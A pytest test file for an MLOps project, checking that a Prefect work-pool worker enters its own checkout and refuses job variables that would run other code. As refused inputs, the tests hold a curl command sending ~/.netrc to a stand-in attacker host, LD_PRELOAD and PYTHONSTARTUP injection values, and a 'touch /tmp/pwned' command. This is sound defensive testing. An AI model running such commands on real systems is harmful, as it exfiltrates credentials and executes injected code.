"""The retrain deployment's pull step on a work-pool worker (ops/pool.py): the worker's own
checkout, or a one-line error saying how to start the worker; the pool's template and the
worker refuse job variables that would run other code. Two real workers run the deployment in
test_workers.py."""

import asyncio
import subprocess
import uuid

import pytest
import yaml

from cifar10_mlops.core.errors import PipelineError
from cifar10_mlops.ops.pool import CHECKOUT_VAR, enter_checkout
from helpers import REPO, deploy_to_pool
from servers import BIN


def test_a_run_enters_the_workers_checkout(monkeypatch):
    monkeypatch.setenv(CHECKOUT_VAR, f" {REPO} ")
    assert enter_checkout() == {"directory": str(REPO)}


def test_a_worker_without_a_checkout_says_how_to_start_one(monkeypatch, tmp_path):
    monkeypatch.delenv(CHECKOUT_VAR, raising=False)
    with pytest.raises(PipelineError, match=f"^{CHECKOUT_VAR} is not set on this worker: start"):
        enter_checkout()
    monkeypatch.setenv(CHECKOUT_VAR, str(tmp_path))
    with pytest.raises(PipelineError) as err:
        enter_checkout()
    assert str(err.value) == (
        f"{CHECKOUT_VAR}={tmp_path} is not a checkout of this project "
        "(no dvc.yaml, flows/retrain.py)"
    )


def test_a_worker_refuses_runs_that_set_its_command_environment_or_folder():
    """Whoever may start a run (`prefect deployment run -jv ...`) could otherwise run any
    command on the worker, which holds the credentials; checked before anything starts."""
    from prefect.client.schemas.objects import FlowRun

    from flows.worker import PinnedProcessWorker

    worker = PinnedProcessWorker(work_pool_name="cpu")
    for asked in (
        {"command": "curl -d @$HOME/.netrc evil.example"},
        {"env": {"PYTHONSTARTUP": "/tmp/x.py"}},
        {"env.LD_PRELOAD": "/tmp/x.so"},
        {"working_dir": "/tmp/elsewhere", "stream_output": False},
    ):
        run = FlowRun(flow_id=uuid.uuid4(), job_variables=asked)
        with pytest.raises(PipelineError, match=r"^job variables .* are refused by this worker"):
            asyncio.run(worker.run(run, configuration=None))


@pytest.mark.integration
@pytest.mark.extended  # a Prefect server and a deployment: a minute
def test_the_pools_template_pins_the_command_environment_and_folder(prefect_server, project):
    """A pool made by an older release (Prefect's default template) is pinned when the
    deployment goes to it; the server then refuses runs that set those job variables."""
    from prefect import get_client
    from prefect.client.schemas.actions import WorkPoolCreate
    from prefect.settings import PREFECT_API_URL, temporary_settings

    from cifar10_mlops.ops.pool import pinned_template

    env = {**prefect_server, "PREFECT_API_URL": prefect_server["PREFECT_API_URL"]}
    with (
        temporary_settings({PREFECT_API_URL: env["PREFECT_API_URL"]}),
        get_client(sync_client=True) as client,
    ):
        client.create_work_pool(WorkPoolCreate(name="cpu", type="process"))
        said = deploy_to_pool(project, env)
        assert "job template now pins command, env, working_dir" in said
        assert client.read_work_pool("cpu").base_job_template == pinned_template()

    name = yaml.safe_load((project / "params.yaml").read_text())["retrain"]["deployment"]
    for variable in ("command=touch /tmp/pwned", 'env={"AWS_ACCESS_KEY_ID": "x"}'):
        started = subprocess.run(
            [str(BIN / "prefect"), "deployment", "run", f"retrain/{name}", "-jv", variable],
            cwd=project, env=env, capture_output=True, text=True, timeout=120,
        )  # fmt: skip
        assert started.returncode != 0, started.stdout
        said = " ".join((started.stdout + started.stderr).split())
        assert "Additional properties are not allowed" in said, said
